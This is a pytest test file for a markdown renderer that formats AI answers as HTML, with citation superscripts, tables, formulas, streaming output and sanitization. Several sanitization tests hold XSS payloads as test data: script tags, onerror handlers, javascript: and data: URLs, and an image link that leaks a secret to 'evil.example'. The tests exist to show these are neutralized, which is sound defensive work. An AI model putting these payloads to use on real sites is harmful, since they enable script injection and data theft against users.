"""Markdown of answers: safe, linked to its sources, and the same whether it streams or not."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conversations.rendering import markdown
from conversations.rendering.markdown import (
    Context,
    Incremental,
    Marker,
    cell_class,
    cited_numbers,
    render,
    render_inline,
)
from tests.nightly import examples

CONTEXT = Context(
    markers={1: Marker("/m/1/1", "Source 1"), 2: Marker("/m/1/2", "Source 2")},
    trusted_text="see https://example.org/handbook for more",
)


def test_known_markers_become_superscript_links_and_others_stay_text() -> None:
    html = render("Paid leave is 30 days [1], see also [2][7] and 【1】.", CONTEXT)
    assert html.count('<sup class="citation">') == 3
    assert 'href="/m/1/1" data-citation="1" aria-label="Source 1"' in html
    assert "[7]" in html
    assert "days<sup" in html


def test_a_list_of_numbers_is_several_markers() -> None:
    assert render("A [1, 2].", CONTEXT).count("data-citation") == 2
    assert "[1, 9]" in render("A [1, 9].", CONTEXT)


@pytest.mark.parametrize("text", ["`[1]`", "```\n[1]\n```", "    [1]"])
def test_markers_in_code_stay_text(text: str) -> None:
    assert "data-citation" not in render(text, CONTEXT)


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "![x](https://evil.example/leak?q=secret)",
        "<https://evil.example/leak>",
        '[x](https://evil.example "t")',
        "a\n<style>*{display:none}</style>",
        '```html" onmouseover="x\n<b>\n```',
        "| a |\n|---|\n| <b onclick=x>y</b> |",
        "[1]: https://evil.example\n\n[1]",
    ],
)
def test_nothing_foreign_is_loaded_run_or_linked(text: str) -> None:
    html = render(text, CONTEXT)
    assert not re.search(r"<(script|style|img|iframe|b)\b", html)
    assert not re.search(r"<[^>]*\son\w+\s*=", html)
    assert not re.search(r'(href|src)="(?!/m/)', html)


def test_links_from_sources_open_in_a_new_tab() -> None:
    html = render("[the handbook](https://example.org/handbook)", CONTEXT)
    address = 'href="https://example.org/handbook" rel="noopener noreferrer nofollow" target="_blank"'
    assert f'<a class="leaving" {address}>the handbook</a>' in html


def test_addresses_in_text_are_links_if_they_are_in_the_sources() -> None:
    context = Context(trusted_text="https://example.org/a_b and http://example.org/c")
    assert render("https://example.org/a_b[1]", context).startswith(
        '<p><a class="leaving" href="https://example.org/a_b"'
    )
    html = render("See https://example.org/a_b, （http://example.org/c）. Not https://evil.example/.", context)
    assert [part.split('"')[0] for part in html.split('href="')[1:]] == [
        "https://example.org/a_b",
        "http://example.org/c",
    ]
    assert ">https://example.org/a_b</a>, （<a" in html and "Not https://evil.example/." in html
    piece = Incremental(context)
    for letter in "Go to https://example.org/a_b now":
        shown = piece.feed(letter)
    assert shown.open == render("Go to https://example.org/a_b now", context)
    for evil in ("javascript:alert(1)", "data:text/html,x", "vbscript:x"):
        assert "<a" not in render(f"[x]({evil}) {evil} <{evil}>", Context(trusted_text=evil))


def test_an_untrusted_link_shows_its_url() -> None:
    assert render("[our bank](https://evil.example/)", CONTEXT) == "<p>our bank (https://evil.example/)</p>\n"


def test_tables_scroll_and_align_by_class() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |", CONTEXT)
    assert '<div class="table-wrap" tabindex="0" role="group" aria-label="Table"><table class="table">' in html
    assert '<td class="numeric">1</td>\n<td class="align-right">2</td>' in html
    assert "style=" not in html


@pytest.mark.parametrize(
    ("cell", "name"),
    [
        *((cell, "numeric") for cell in ("36", "−40 °C", "≈ $1,200.50", "98 % [2]", "3 天", "12 km/h", "0.5 [1][3]")),
        *((cell, "") for cell in ("", "LS-2448P", "4.2.1", "2026-11-24", "port 3", "3 ports open", "10/100")),
        ("a name of more than 16", "long"),
    ],
)
def test_a_numeric_cell_has_a_class(cell: str, name: str) -> None:
    assert cell_class(cell) == name


def test_cells_are_escaped_and_linked() -> None:
    assert render_inline("<b> 3 [2]", CONTEXT) == (
        '&lt;b&gt; 3<sup class="citation"><a href="/m/1/2" data-citation="2" aria-label="Source 2">2</a></sup>'
    )


def test_headings_are_below_those_of_the_page() -> None:
    assert render("# A\n\n###### B") == "<h3>A</h3>\n<h6>B</h6>\n"


def test_cited_numbers_in_order() -> None:
    assert cited_numbers("b [2] a [1,2] 【3】 [x] [4](y)") == [2, 1, 3]


LINES = st.sampled_from(
    [
        "", "", "a paragraph [1]", "**bold", "closes** it", "# Heading", "## ", "- item", "  - nested", "* other",
        "1. one", "2. two", "10) ten", "> quote", ">", "```", "```py", "~~~", "    indented", "| a | b |", "|---|:-:|",
        "| 1 | 2 [2] |", "---", "===", "***", "[1]: https://x.example", "[1]", "<div>", "</div>", "text\\", "`code",
        "&amp; <b>", "\tTab", "中文 [1]。", "第二句【2】", "+", "-", "  continued", "![p](q)",
        "$$", "$$a$$", "\\[", "\\]", "  \\[ b", "x $c$ \\(d", "e\\) f $$", "- [ ] g", "\\[3\\]",
        "```py\nx = 1", "- ```mermaid",
        "[l](https://example.org/handbook)",
    ]
)  # fmt: skip


@given(
    st.lists(LINES, max_size=14), st.lists(st.integers(1, 7), min_size=1, max_size=8), st.sampled_from(["\n", "\r\n"])
)
@settings(max_examples=examples(600))
def test_streaming_results_in_the_same_html_as_rendering_at_once(
    lines: list[str], sizes: list[int], line_end: str
) -> None:
    text = line_end.join(lines)
    stream = Incremental(CONTEXT)
    html, position, turn = "", 0, 0
    while position < len(text):
        size = sizes[turn % len(sizes)]
        html += stream.feed(text[position : position + size]).finished
        position, turn = position + size, turn + 1
    html += stream.close()
    assert html == render(text, CONTEXT)


PIECES = st.text(alphabet="ab1 .-:\n*_`[]()#>|~<&;!=+\\\"'中。\u3000 ", max_size=8) | st.sampled_from(
    ["- ", "\n\n", "1. ", "    ", "```", "[1]", "[x](", "https://example.org/handbook", "**", "a word", " and two",
     "<http:", "&amp", "  \n", "| a | b\n|--|--|\n", "# ", "> ", " said [1]", " 【2, 1】, so",
     "$", "$$", "\\(", "\\)", "\n$$\n", "\\[ x", "=1 \\]", "$a$", "$5 and ", "- [x] ",
     " **bold** and", " a **b c**", " unknown [9]", "(x)", "*", " **x [1]** y"]
)  # fmt: skip


@given(st.lists(PIECES, max_size=20))
@settings(max_examples=examples(600))
def test_appended_words_result_in_the_same_html_as_parsing_again(pieces: list[str]) -> None:
    stream = Incremental(CONTEXT)
    for piece in pieces:
        assert stream.feed(piece).open == render(stream._tail, CONTEXT)


def test_appended_words_are_not_parsed_again(monkeypatch: pytest.MonkeyPatch) -> None:
    stream = Incremental()
    stream.feed("A list:\n\n- **one** and")
    monkeypatch.setattr(markdown, "render", None)
    assert stream.feed(" two ").open.endswith("<strong>one</strong> and two</li>\n</ul>\n")
    assert stream.feed("and three").open.endswith("and two and three</li>\n</ul>\n")


def test_complete_markers_and_bold_words_are_not_parsed_again(monkeypatch: pytest.MonkeyPatch) -> None:
    whole = render("It is **red** and so [1, 2]. Then **more** 【2】 it is", CONTEXT)
    stream = Incremental(CONTEXT)
    stream.feed("It is")
    monkeypatch.setattr(markdown, "render", None)
    for piece in (" **red** and", " so [1, 2]", ". Then **more** 【2】", " it is"):
        change = stream.feed(piece)
    assert change.open == whole


def test_a_long_piece_is_processed_quickly() -> None:
    # If every way of splitting the words were tried, this would never end.
    stream = Incremental(CONTEXT)
    stream.feed("so")
    assert stream.feed(" word" * 1000 + " [1]" * 1000 + " **b**" * 1000 + " &").open.endswith("&amp;</p>\n")


def test_only_the_open_block_is_parsed_again() -> None:
    stream = Incremental()
    for number in range(2000):
        stream.feed(f"Paragraph {number}.\n\n")
    assert len(stream._tail) < 40


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("LS-2448P <48>", '<span class="whole">LS-2448P</span> &lt;48&gt;'),
        ("交换机LS-2448P等", '交换机<span class="whole">LS-2448P</span>等'),
        ("long-term", "long-term"),
        ("3 - 4", "3 - 4"),
    ],
)
def test_a_model_number_in_a_cell_is_kept_together(cell: str, shown: str) -> None:
    assert render_inline(cell) == shown


def test_a_markdown_table_keeps_model_numbers_and_long_cells_readable() -> None:
    html = render("Take an LS-2448P.\n\n| Model | For |\n|---|--:|\n| **LS-2448P** | a rack with much & more in it |\n")
    assert html.count('<span class="whole">LS-2448P</span>') == 1 and "<p>Take an LS-2448P.</p>" in html
    assert '<td class="align-right long">a rack with much &amp; more in it</td>' in html


def test_a_cell_of_hyphens_is_parsed_quickly() -> None:
    # With a lookahead to the end from every position, this would take minutes.
    cell = "AB-" * 200_000
    assert render_inline(cell) == cell


@pytest.mark.parametrize(
    ("text", "formulas"),
    [
        (r"It is \(a^2\) and $b_1$, so $$c$$.", [r"\(a^2\)", "$b_1$", "$$c$$"]),
        ("We get:\n\\[\n  E = mc^2 \\\\[2pt]\n+ d\n\\]\n", ["\\[\n  E = mc^2 \\\\[2pt]\n+ d\n\\]"]),
        ("- one\n\n  $$\n  x\n  $$\n", ["$$\nx\n$$"]),
        ("> $$\n> x\n> $$\n", ["$$\nx\n$$"]),
        (r"设 $x$的值，$n$th and $\alpha$s", ["$x$", "$n$", r"$\alpha$"]),
        (r"a \[ \frac{1}{2} \] b", [r"\[ \frac{1}{2} \]"]),
        (r"\(\sqrt[2]{x} < y\) [1]", [r"\(\sqrt[2]{x} &lt; y\)"]),
        (r"**$*$ and $*$**", ["$*$", "$*$"]),
        # Prices, shell variables and escaped brackets aren't formulas.
        ("$5 and $6", []),
        ("It costs $5/$6 or US$7, A$8 (about $9 or B$ 3).", []),
        ("The $20 (or 30$) fee", []),
        ("Set $HOME/$USER and ($TSLA,$AAPL).", []),
        (r"\$a\$ and \[3\] and \[tool.poetry\]", []),
        ("`$a$` and\n\n    $$a$$\n", []),
        ("$$ $$ and \\(\\)", []),
        ("$$\n\nno $$", []),
    ],
)
def test_formulas_are_kept_as_written(text: str, formulas: list[str]) -> None:
    found = re.findall(r'<(span|div) class="math(?: display)?">(.*?)</\1>', render(text, CONTEXT), re.DOTALL)
    assert [source for _, source in found] == formulas


def test_formulas_in_cells_are_kept_too() -> None:
    html = render_inline(r"\(x_{[1]}\) is $\sqrt[2]{y}$, not $5 [1]", CONTEXT)
    assert html.count('<span class="math">') == 2 and html.count("data-citation") == 1
    assert r"\(x_{[1]}\)" in html and r"$\sqrt[2]{y}$" in html


def test_unclosed_formulas_stay_text_with_their_backslashes() -> None:
    assert render("so \\(a^2 + *b* is") == "<p>so \\(a^2 + <em>b</em> is</p>\n"
    assert render("\\[\n- a\n= b") == '<div class="math-open">\\[\n- a\n= b</div>\n'
    assert render("$$\na\n\n- b") == '<div class="math-open">$$\na</div>\n<ul>\n<li>b</li>\n</ul>\n'


def test_complete_code_is_highlighted() -> None:
    open_block = "```python\ndef f(): return '<b>'"
    assert "<span" not in render(open_block).split("<pre")[1] and "&lt;b&gt;" in render(open_block)
    html = render(f"{open_block}\n```")
    assert '<span class="k">def </span><span class="nf">f</span>' in html and "&lt;b&gt;" in html
    assert "style=" not in html
    assert render("```nonsense\ndef f\n```").endswith("<code>def f\n</code></pre></figure>\n")


def test_only_complete_diagrams_are_marked() -> None:
    text = "```mermaid\ngraph TD; A-->B\n"
    assert 'class="code"' in render(text) and "data-diagram-switch" not in render(text)
    html = render(f"{text}```")
    assert 'class="code diagram"' in html and "data-diagram-switch" in html
    long = render(f"```mermaid\n{'A-->B;' * markdown.LONGEST_DIAGRAM}\n```")
    assert 'class="code diagram"' not in long


def test_tasks_have_a_checkbox_with_a_text_alternative() -> None:
    html = render("- [ ] first [1]\n- [x] **second**\n- [ ]\n- [y] third\n\n1. [X] fourth\n", CONTEXT)
    assert html.count('<li class="task">') == 3
    assert html.count('<span class="box" role="img" aria-label="To do"></span>first') == 1
    assert html.count('<span class="box done" role="img" aria-label="Done"></span>') == 2
    assert "[y] third" in html and "[ ]" in html and "data-citation" in html


@pytest.mark.parametrize(
    "line",
    ['A["<img src=x onerror=y>"]', 'A@{ img: "//x.example/y.png" }', "style A fill:URL(x)", 'click A "javascript:x"'],
)
def test_a_diagram_with_external_content_stays_code(line: str) -> None:
    assert 'class="code"' in render(f"```mermaid\nflowchart LR\n{line}\n```")
    plain = "classDiagram\nA <|-- B\nclass A {\n<<interface>>\n}\nA <--> C : a<br/>b"
    assert 'class="code diagram"' in render(f"```mermaid\n{plain}\n```")
